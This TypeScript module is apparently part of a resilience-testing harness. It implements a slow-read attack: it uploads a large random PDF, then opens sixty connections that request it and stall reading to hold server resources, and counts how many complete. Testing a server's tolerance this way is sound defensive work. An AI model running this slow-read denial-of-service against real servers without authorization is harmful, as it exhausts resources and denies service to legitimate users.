// Anonymous readers that request the largest asset and do not read the response once it has begun.
import { randomBytes } from 'node:crypto';
import type net from 'node:net';
import { assetUrl } from '#shared/paths.ts';
import { type Attack, pause } from './attack.ts';
import { connect, headOf, sendAsset } from './send.ts';

const READERS = 60;
const ASSET_BYTES = 9_500_000;
const FILENAME = 'leaflet.pdf';
/** Milliseconds for reading whatever is left at the end. */
const READ_TIMEOUT_MS = 15_000;

/** Resolves once the response has begun, or the connection has ended. @returns the bytes so far */
const beginning = (socket: net.Socket): Promise<number> =>
  new Promise((resolve) => {
    socket.once('close', () => resolve(0));
    socket.once('data', (first) => {
      socket.pause();
      resolve(first.length);
    });
  });

/** Reads the rest. @returns whether the whole asset arrived */
function readRest(socket: net.Socket, before: number): Promise<boolean> {
  let bytes = before;
  return new Promise((resolve) => {
    const done = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(bytes >= ASSET_BYTES);
    };
    const timer = setTimeout(done, READ_TIMEOUT_MS);
    if (socket.closed) return done();
    socket.on('data', (more) => {
      bytes += more.length;
      if (bytes >= ASSET_BYTES) done();
    });
    socket.once('close', done);
    socket.resume();
  });
}

export const stalledReaders: Attack = async (target) => {
  const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(ASSET_BYTES - 9)]);
  const { status } = await sendAsset(target, FILENAME, pdf, AbortSignal.timeout(30_000));
  if (status !== 200) throw new Error(`The asset answered ${status}`);
  return async (signal) => {
    const stall = async () => {
      const socket = connect(target);
      socket.write(headOf('GET', assetUrl(FILENAME), { Accept: '*/*' }));
      const bytes = await beginning(socket);
      // The server's patience begins with the response, which a busy one sends late.
      await pause(target.seconds * 1000, signal);
      // A paused connection does not notice that it was cut until it reads again.
      return readRest(socket, bytes);
    };
    const whole = await Promise.all(Array.from({ length: READERS }, stall));
    return { figures: { whole: whole.filter(Boolean).length } };
  };
};
